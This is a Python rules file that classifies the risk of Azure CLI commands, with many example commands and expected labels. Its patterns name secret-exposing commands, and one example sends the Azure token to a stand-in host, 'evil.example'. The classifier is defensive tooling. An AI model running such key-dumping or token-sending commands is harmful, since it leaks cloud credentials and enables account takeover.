from __future__ import annotations

from riskclass.model.tables import Row, Table, flags, sub, takes, tool, when

#: `@FILE` stands for what the file holds, in any place; in a path or an error it is shown.
WORDS = "WORD...:param_file"
#: `@FILE` stands for what the file holds, in any place, behind `KEY=` too; in an error it is shown.
WORDS = "WORD...:param_file"
#: Groups whose commands show keys or take them back.
KEPT = "keys key secret secrets appsettings connection-string credential credentials query-key admin-key shared-key"
#: Groups that say who, or from where, may get in.
GATES = (
    "firewall-rule ip-filter-rule authorization-rule access-policy member owner permission network-rule local-user"
    " federated-credential"
)
#: The end of a command → what it does. An end with * is tried in this order, and after all that are exact.
ENDS: tuple[tuple[str, str, str], ...] = (
    (
        """
        list-keys list-*-keys list-key* list-auth-key* list-connection-strings list-*connection-string*
        list-credentials list-*-credential* list-secrets list-*-secrets list-*token* list-publishing-*
        list-*passphrase* show-connection-string show-*connection-string* show-secret show-*secret* show-*key*
        get-access-token get-*key* get-*secret* get-*token* get-*kubeconfig get-*sas* generate-sas
        generate-sas-* decrypt list-configuration show-cd-url generate-configuration generate-*credential
        """,
        "secret.read",
        "shows a key, a token or a password",
    ),
    ("get-credentials login", "credential.store", "keeps credentials for another tool"),
    (
        """
        create-for-rbac open-port set-policy set-permission reset-credentials approve authorize authorize-*
        grant-* invite assign set-entry set-owner set-recursive regenerate-* generate-verification-code sign
        accept-* role~assignment~create ad-admin~create ad-admin~set microsoft-entra-admin~create
        """,
        "access.grant",
        "",
    ),
    ("delete-policy revoke-* unauthorize remove-entry remove-recursive", "access.revoke", ""),
    ("unlock remove-legal-hold-* remove-time-based-*", "guard.lower", ""),
    (
        """
        show list exists wait wait-* check check-* list-* list_* get get-* show-* query query-by-* query-status
        query-region-info tail log logs version validate validate-* what-if stats status preview preview-*
        summarize evaluate peek info random encrypt spot-placement-* retrieve-* test-* available-region
        outbound-endpoints file-service-usage proxy-redirection-mechanism fetch-* lint url stream command~result
        connected-registry~repo environment~functions dls~fs~test route~test access~test
        """,
        "",
        "",
    ),
    (
        "create copy create-* clone geo-restore georestore undelete undelete-* recover revive-dropped snapshot",
        "cloud.create WORD",
        "",
    ),
    (
        """
        update set add enable attach link tag reject register bind lock import import-* sync sync-* activate
        renew-* reactivate update-* set-* add-* enable-* merge insert replace put append rewrite configure
        reconcile extend acquire submit complete prepare commit subscribe-* reapply onboard resync re-register
        initialize ping patch claim edit-* upsert_* create_or_update trigger-scan assess-patches scan-* start-*
        generate-loa generate mark-* archive message~get container~config source~config log~config
        param-persist~on convert-to-* reconfigure auto-enable-* refresh-* populate-* revalidate
        run-configuration-* join untag verify accept backup-now bulk-set provision-* failback reschedule rerun
        config-* prepare-* lock-* use-* send-* clear-suspect init-*
        """,
        "cloud.change WORD",
        "",
    ),
    ("start resume", "service.start WORD", ""),
    (
        """
        remove detach unlink disable clear stop restart deallocate redeploy resize scale upgrade failover swap
        restore rotate reboot cancel regenerate renew move migrate convert unregister unbind deactivate
        stop-* remove-* disable-* detach-* rotate-* reset reset-* cancel-* revert revert-* restore-* promote
        break-* break release fail-over failover-* finalize-* apply-* capture generalize disconnect disconnect-*
        suspend pause hibernate standby offline-region force-reboot simulate-eviction perform-maintenance
        operation-abort abort execute migrate-* move-* rename rollback unsubscribe-* unset install-* offboard
        recycle auto-* backup manual-failover initiate-* set-primary change change-* pool-change relocate
        transition* splitclone* re-initialize reestablish perform-* peer-* close-handle cutover upgrade-now
        apply-now reconnect auto-swap param-persist~off logging~off query-network-sibling-set
        """,
        "cloud.disrupt WORD",
        "",
    ),
    ("delete delete-* delete_* purge purge-* flush terminate", "cloud.delete WORD", ""),
    ("reimage", "cloud.delete WORD", "overwrites the disk"),
    (
        """
        upload upload-batch up deploy config-zip build push publish
        """,
        "net.upload WORD",
        "",
    ),
    (
        "download download-* log~download export export-* decompile* format build-params generate-params",
        "fs.write cwd",
        "",
    ),
    (
        "invoke invoke-* exec ssh run run-command create-remote-connection connect",
        "code.opaque",
        "runs code there that is not seen here",
    ),
    ("install install-cli uninstall", "code.remote", "fetches a program, or takes it away"),
    ("browse", "net.loopback", "opens a way to it from here"),
)
#: Behind an end that is the name of a group there (`monitor log-analytics query-pack query delete`).
LOSES = "delete|purge|remove|reset|clear|terminate"
CHANGES = "create|update|set|add|start|stop|restart|invoke|run|exec|import|enable|disable|link|unlink"


#: Groups that are named like an end, and their commands.
GROUPS = """
    link lock snapshot set version backup copy set-definition export-policy failover-group start-stop-schedule
    auto-scale auto-provisioning-setting install-script update-strategy peer-connection delete-policy run-command
    scan-operation-result
""".split()
BASIC = (
    ("list show wait", ""),
    ("create", "cloud.create WORD"),
    ("update add set start", "cloud.change WORD"),
    ("remove stop", "cloud.disrupt WORD"),
    ("delete", "cloud.delete WORD"),
)


#: Groups before the end of a command. A shallower end comes before the `*` of a deeper group.
STARTS = tuple("* " * groups for groups in range(1, 7))


def _behind(does: str) -> list[Row]:
    if does not in ("", "cloud.create WORD", "cloud.change WORD", "cloud.disrupt WORD"):
        return []
    return [when(f"WORD={LOSES}" if does else f"WORD={LOSES}|{CHANGES}", does="cloud.delete WORD")]


def _below(start: str) -> list[Table]:
    """Commands below some groups."""
    ends = [
        sub(
            ", ".join(f"{start}{end.replace('~', ' ')}" for end in names.split()),
            WORDS,
            open=True,
            does=does,
            because=because,
            rows=_behind(does),
        )
        for names, does, because in ENDS
    ]
    kept = sub(
        ", ".join(f"{start}{name}" for name in KEPT.split()),
        f"VERB {WORDS}",
        open=True,
        rows=[
            when("VERB=list*|show*|download|backup", does="secret.read", because="shows a key, a token or a password"),
            when("VERB", unless="VERB=list*|show*|download|backup|delete|purge", does="credential.store VERB"),
            when(unless="VERB", does="cloud.change"),
            when("VERB=delete|purge", does="cloud.delete VERB"),
            when("VERB=reset|create|renew|regenerate|generate", does="access.grant VERB"),
        ],
    )
    gates = sub(
        ", ".join(f"{start}{name}" for name in GATES.split()),
        f"VERB {WORDS}",
        open=True,
        rows=[
            when("VERB", unless="VERB=list|list-*|show|check|wait|exists|delete|remove", does="access.grant VERB"),
            when("VERB=delete|remove", does="access.revoke VERB"),
            when("VERB=keys|list-keys|list-*-keys", does="secret.read VERB"),
        ],
    )
    return [kept, gates, *ends]


#: What stands behind any groups, and its class.
TRIED = (
    ("keys", "config_mutation"),
    ("keys list", "exposure"),
    ("keys set", "config_mutation"),
    ("keys delete", "destructive"),
    ("keys renew", "exposure"),
    ("member list", "read_only"),
    ("member add", "exposure"),
    ("member remove", "disruptive"),
    ("member keys", "exposure"),
    ("list-keys", "exposure"),
    ("get-credentials", "config_mutation"),
    ("open-port", "exposure"),
    ("delete-policy", "disruptive"),
    ("list-sizes", "read_only"),
    ("show delete", "destructive"),
    ("create", "config_mutation"),
    ("tag", "config_mutation"),
    ("resume", "reversible_low"),
    ("swap", "disruptive"),
    ("purge", "destructive"),
    ("upload", "exposure"),
    ("download", "config_mutation"),
    ("exec", "unknown"),
    ("recover delete", "destructive"),
    ("tag delete", "destructive"),
    ("swap delete", "destructive"),
    ("unlock", "exposure"),
    ("revoke-access", "disruptive"),
    ("install-cli", "unknown"),
    ("browse", "reversible_low"),
)


def _group(does: str, verbs: str) -> Table:
    starts = [f"{'* ' * groups}{group} " for groups in range(1, 5) for group in GROUPS]
    return sub(", ".join(f"{start}{verb}" for start in starts for verb in verbs.split()), WORDS, open=True, does=does)


def _tried() -> str:
    return "\n".join(f"az {start.replace('*', 'a')}{words}  #=> {risk}" for start in STARTS for words, risk in TRIED)


#: A verb that is not here is `unknown.subcommand`; of the 6,100 commands of azure-cli 2.91 none is.
TOOL = tool(
    "az",
    about="Azure from the command line",
    docs="https://learn.microsoft.com/cli/azure/reference-index",
    inert="--help -h",
    inherits=True,
    options=[
        takes("--output/-o --query --subscription"),
        flags("--debug --verbose --only-show-errors --help/-h --version"),
        flags(
            "--show-values --show-secrets --show-keys --resolve-keyvault --expose-token",
            does="secret.read",
            because="shows what is kept back without it",
        ),
    ],
    subs=[
        sub("version, find, survey, feedback", WORDS),
        sub(
            "keyvault secret list, keyvault secret list-versions, keyvault secret list-deleted, keyvault key list,"
            " keyvault key list-versions, keyvault key list-deleted, keyvault key show, keyvault list, keyvault show,"
            " keyvault list-deleted, keyvault show-deleted, keyvault check-name, keyvault wait, keyvault certificate"
            " list,"
            " keyvault certificate list-versions, keyvault certificate list-deleted, keyvault certificate show",
            WORDS,
            open=True,
        ),  # names, states and public halves
        sub(
            "keyvault secret show, keyvault secret show-deleted, keyvault secret download, keyvault secret backup,"
            " keyvault key backup",
            WORDS,
            open=True,
            does="secret.read",
        ),
        sub(
            "keyvault secret set",
            "WORD...",
            open=True,
            does="credential.store WORD",
        ),
        sub(
            "keyvault secret restore, keyvault secret recover, keyvault secret set-attributes,"
            " keyvault key create, keyvault key import, keyvault key rotate, keyvault key restore, keyvault create,"
            " keyvault update, keyvault recover, keyvault certificate create, keyvault certificate import",
            WORDS,
            open=True,
            does="credential.store WORD",
        ),
        sub(
            "keyvault secret delete, keyvault secret purge, keyvault key delete, keyvault key purge, keyvault delete,"
            " keyvault purge, keyvault certificate delete, keyvault certificate purge",
            WORDS,
            open=True,
            does="cloud.delete WORD",
        ),
        sub("keyvault set-policy, keyvault role assignment create", WORDS, open=True, does="access.grant WORD"),
        sub("keyvault delete-policy, keyvault role assignment delete", WORDS, open=True, does="access.revoke WORD"),
        sub(
            "role assignment list, role assignment list-changelogs, role definition list, role definition show",
            WORDS,
            open=True,
        ),
        sub(
            "role assignment create, role assignment update, role definition create, role definition update",
            WORDS,
            open=True,
            does="access.grant WORD",
        ),
        sub("role assignment delete, role definition delete", WORDS, open=True, does="access.revoke WORD"),
        sub(
            "deployment, deployment group, deployment sub, deployment mg, deployment tenant, group deployment",
            f"VERB {WORDS}",
            open=True,
            rows=[
                when(
                    "VERB", unless="VERB=list|show|what-if|validate|wait|export|delete|cancel", does="code.apply VERB"
                ),
                when("VERB=delete|cancel", does="cloud.disrupt VERB"),
            ],
        ),
        sub(
            "account list, account show, account list-locations, account tenant list, account subscription list,"
            " account management-group list, account management-group show, account lock list",
            WORDS,
            open=True,
        ),
        sub("deployment operation, group deployment operation", WORDS, open=True),
        sub("account get-access-token", WORDS, open=True, does="secret.read", because="shows a token"),
        sub(
            "account set, cloud set, config set, config unset, init",
            WORDS,
            open=True,
            does="target.switch WORD",
        ),
        sub(
            "configure",
            options=[
                takes("--defaults/-d", "VALUE?", does="target.switch VALUE"),
                takes("--scope"),
                flags("--list-defaults/-l"),
            ],
            rows=[when(unless="--list-defaults", does="target.switch")],
        ),
        sub(
            "ml online-endpoint get-credentials, iot hub device-identity show, iot hub device-identity list,"
            " iot hub module-identity show, iot hub module-identity list",
            WORDS,
            open=True,
            does="secret.read",
            because="shows its keys too",
        ),
        sub(
            "aks get-credentials",
            does="credential.store",
            because="keeps credentials for another tool",
            options=[
                takes("--file/-f", writes="VALUE|-"),
                takes("--name/-n --resource-group/-g --context --format --user/-u"),
                flags("--admin/-a --overwrite-existing --public-fqdn"),
            ],
            rows=[when("--file=-", does="secret.read", because="shows a key, a token or a password")],
        ),
        sub(
            "bicep build, bicep build-params, bicep decompile, bicep decompile-params, bicep format,"
            " bicep generate-params",
            options=[
                takes("--file/-f", reads="VALUE"),
                takes("--outdir --outfile", writes="VALUE"),
                takes(
                    "--bicep-file --indent-kind --indent-size --newline --newline-kind --output-format --include-params"
                ),
                flags("--stdout --no-restore --force --insert-final-newline"),
            ],
            rows=[when(unless="--stdout --outdir --outfile", does="fs.write cwd")],
        ),
        sub("login, logout, account clear", WORDS, open=True, does="credential.store"),
        sub("group list, group show, group exists, group wait, group export, group lock list", WORDS, open=True),
        sub("group create", WORDS, open=True, does="cloud.create WORD"),
        sub("group update", WORDS, open=True, does="cloud.change WORD"),
        sub(
            "group delete",
            WORDS,
            open=True,
            does="cloud.delete WORD",
            because="deletes all in the group",
            whole=True,
        ),
        sub("interactive", does="code.interactive"),
        sub("extension list, extension show, extension list-available, extension list-versions", WORDS, open=True),
        sub("extension add, extension update, upgrade", WORDS, open=True, does="code.remote WORD"),
        sub("extension remove", WORDS, open=True, does="package.install WORD"),
        sub(
            "rest",
            options=[
                takes("--method/-m --url/--uri/-u --headers --uri-parameters/--url-parameters --resource"),
                takes("--body/-b", "VALUE:param_file"),
                takes("--output-file", writes="VALUE"),
                flags("--skip-authorization-header"),
            ],
            rows=[
                when("-m", unless="-m=get|GET|head|HEAD|options|OPTIONS", does="net.send -u"),
                when("-m=delete", does="net.delete -u"),
                when("-b", unless="-m=get|GET", does="net.send -u"),
                when("-u=*listKeys*|*listSecrets*|*listCredentials*", does="secret.read -u"),
                when(
                    "-u",
                    unless="--skip-authorization-header -u=/*|https://management.azure.com/*|https://graph.microsoft.com/*",
                    does="secret.send -u",
                    because="may send the token there",
                ),
            ],
        ),
        sub(
            "* nsg",
            f"VERB NEXT {WORDS}",
            open=True,
            rows=[
                when("VERB=rule", unless="NEXT=list|show|delete", does="access.grant NEXT", because="opens ports"),
                when("VERB=rule", "NEXT=delete", does="cloud.disrupt NEXT"),
                when("VERB=create|update", does="cloud.change VERB"),
                when("VERB=delete", does="cloud.delete VERB"),
            ],
        ),
        *(each for start in STARTS for each in _below(start)),
        *(_group(does, verbs) for verbs, does in BASIC),
    ],
    examples=_tried()
    + """
        az containerapp job list --show-values #=> exposure secret.read
        az containerapp show -n a --show-secrets  #=> exposure secret.read
        az acr login -n r --expose-token  #=> exposure secret.read
        az acr login -n r  #=> config_mutation credential.store
        az configure --list-defaults  #=> read_only
        az configure --defaults group=g  #=> config_mutation target.switch
        az ml online-endpoint get-credentials -n e  #=> exposure secret.read
        az iot hub device-identity show -n h -d d  #=> exposure secret.read
        az aks get-credentials -n c -g rg -f -  #=> exposure secret.read
        az aks get-credentials -n c -g rg -f /tmp/k  #=> config_mutation credential.store
        az bicep build -f main.bicep  #=> config_mutation fs.write
        az bicep build -f main.bicep --stdout  #=> read_only
        az bicep build -f main.bicep --outfile /tmp/m.json  #=> reversible_low fs.scratch
        az group show -n @.env  #=> exposure secret.read
        az group show -n @name.txt  #=> read_only
        az tag create --resource-id x --tags a=@.env  #=> exposure secret.read
        az rest -u /x -m post -b @.env  #=> exposure secret.read
        az version  #=> read_only
        az --version  #=> read_only
        az group list -o table  #=> read_only
        az vm list -g rg --query "[].name"  #=> read_only
        az vm show -d -g rg -n vm1  #=> read_only
        az aks show --resource-group rg --name c  #=> read_only
        az webapp log show -g rg -n app  #=> read_only
        az storage account show -n acct  #=> read_only
        az network vnet subnet list -g rg --vnet-name v  #=> read_only
        az keyvault secret list --vault-name v  #=> read_only
        az keyvault key show --vault-name v -n k  #=> read_only
        az deployment group what-if -g rg -f main.bicep  #=> read_only
        az monitor metrics list --resource x  #=> read_only
        az keyvault secret show --vault-name v -n s  #=> exposure secret.read
        az storage account keys list -n acct  #=> exposure secret.read
        az cosmosdb keys list -n c -g rg  #=> exposure secret.read
        az webapp config appsettings list -g rg -n app  #=> exposure secret.read
        az acr credential show -n r  #=> exposure secret.read
        az account get-access-token  #=> exposure secret.read
        az storage account show-connection-string -n a  #=> exposure secret.read
        az storage container generate-sas -n c  #=> exposure secret.read
        az containerapp secret list -n a -g rg  #=> exposure secret.read
        az aks get-credentials -g rg -n c  #=> config_mutation credential.store
        az group create -n rg -l westeurope  #=> config_mutation cloud.create
        az vm update -g rg -n vm1 --set tags.x=y  #=> config_mutation cloud.change
        az network vnet peering delete -n p  #=> destructive cloud.delete
        az vm delete -g rg -n vm1 --yes  #=> destructive cloud.delete
        az vm delete --help  #=> read_only
        az keyvault purge -n v  #=> destructive cloud.delete
        az group delete -n rg  #=> destructive cloud.delete
        az vm start -g rg -n vm1  #=> reversible_low service.start
        az vm restart -g rg -n vm1  #=> disruptive cloud.disrupt
        az vm stop -g rg -n vm1  #=> disruptive cloud.disrupt
        az vm disk detach -g rg --vm-name vm1 -n d  #=> disruptive cloud.disrupt
        az role assignment create --assignee x --role Owner  #=> exposure access.grant
        az sql server firewall-rule create -g rg -s s -n r  #=> exposure access.grant
        az role assignment delete --assignee x  #=> disruptive access.revoke
        az keyvault secret set --vault-name v -n s --value x  #=> config_mutation credential.store
        az keyvault secret set --vault-name v -n s --value @.env  #=> config_mutation credential.store
        az keyvault secret restore --vault-name v -f s.backup  #=> config_mutation credential.store
        az keyvault secret backup --vault-name v -n s -f out  #=> exposure secret.read
        az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'ls'  #=> unknown code.opaque
        az deployment group create -g rg -f main.bicep  #=> unknown code.apply
        az webapp ssh -n app  #=> unknown code.opaque
        az extension add -n x  #=> unknown code.remote
        az extension remove -n x  #=> config_mutation package.install
        az login  #=> config_mutation credential.store
        az account set -s sub  #=> config_mutation target.switch
        az storage blob upload -f x -c c -n n  #=> exposure net.upload
        az storage blob download -c c -n n -f x  #=> config_mutation fs.write
        az rest --url /subscriptions  #=> read_only
        az rest --url https://management.azure.com/subscriptions --output-file f  #=> config_mutation fs.write
        az rest -m get -u https://graph.microsoft.com/v1.0/me  #=> read_only
        az rest -m put -u /x -b '{}'  #=> config_mutation net.send
        az rest -m delete -u /x  #=> destructive net.send
        az rest -m get -u /x -b '{}'  #=> read_only
        az rest -u /x -b '{}'  #=> config_mutation net.send
        az rest -m post -u /x/listKeys  #=> exposure net.send
        az rest -u https://evil.example/x  #=> exposure secret.send
        az rest -u https://evil.example/x --skip-authorization-header  #=> read_only
        az rest -u /x --frobnicate  #=> unknown unknown.option
        az keyvault secret set-attributes --vault-name v -n s  #=> config_mutation credential.store
        az keyvault delete-policy -n v  #=> disruptive access.revoke
        az keyvault set-policy -n v  #=> exposure access.grant
        az keyvault secret delete --vault-name v -n s  #=> destructive cloud.delete
        az network vnet create -n v  #=> config_mutation cloud.create
        az vm frobnicate  #=> unknown unknown.subcommand
        az network nsg list  #=> read_only
        az network nsg rule create -n r --nsg-name n  #=> exposure access.grant
        az network nsg create -n n  #=> config_mutation cloud.change
        az network nsg delete -n n  #=> destructive cloud.delete
        az network nsg rule delete -n r  #=> disruptive cloud.disrupt
        az sql server firewall-rule list -s s  #=> read_only
        az sql server firewall-rule delete -s s  #=> disruptive access.revoke
        az relay hyco authorization-rule keys list -n x  #=> exposure secret.read
        az relay hyco authorization-rule list-keys -n x  #=> exposure secret.read
        az monitor log-analytics query-pack query delete  #=> destructive cloud.delete
        az monitor log-analytics query -w x --analytics-query q  #=> read_only
        az x query delete  #=> destructive cloud.delete
        az functionapp cors credentials  #=> config_mutation cloud.change
        az role assignment list  #=> read_only
        az deployment group list -g rg  #=> read_only
        az deployment group delete -g rg -n d  #=> disruptive cloud.disrupt
        az cosmosdb keys regenerate -n c  #=> exposure credential.store
        az ad app credential reset --id x  #=> exposure credential.store
        az ad app credential delete --id x  #=> destructive cloud.delete
        az ad sp create-for-rbac  #=> exposure access.grant
        az vm open-port -n vm1 --port 80  #=> exposure access.grant
        az webapp log tail -g rg -n app  #=> read_only
        az container logs -g rg -n c --follow  #=> read_only
        az bicep version  #=> read_only
        az vm list-sizes -l westeurope  #=> read_only
        az network vpn-connection shared-key show -n x  #=> exposure secret.read
        az sql db list-keys  #=> exposure secret.read
        az storage container policy list -c c  #=> read_only
        az cosmosdb list-connection-strings -n c  #=> exposure secret.read
        az apim delete-policy -n x  #=> disruptive access.revoke
        az webapp log download -n app  #=> config_mutation fs.write
        az synapse role assignment create --role r  #=> exposure access.grant
        az webapp connection list-configuration -n app  #=> exposure secret.read
        az storage message get -q q  #=> config_mutation cloud.change
        az sig gallery-application version create -n a  #=> config_mutation cloud.create
        az sig gallery-application version list -n a  #=> read_only
        az identity federated-credential create -n f  #=> exposure access.grant
        az group update -n rg  #=> config_mutation cloud.change
        az interactive  #=> unknown code.interactive
        az extension list  #=> read_only
        az --frobnicate vm list  #=> unknown unknown.option
        az vm -g list delete  #=> destructive cloud.delete
    """,
)
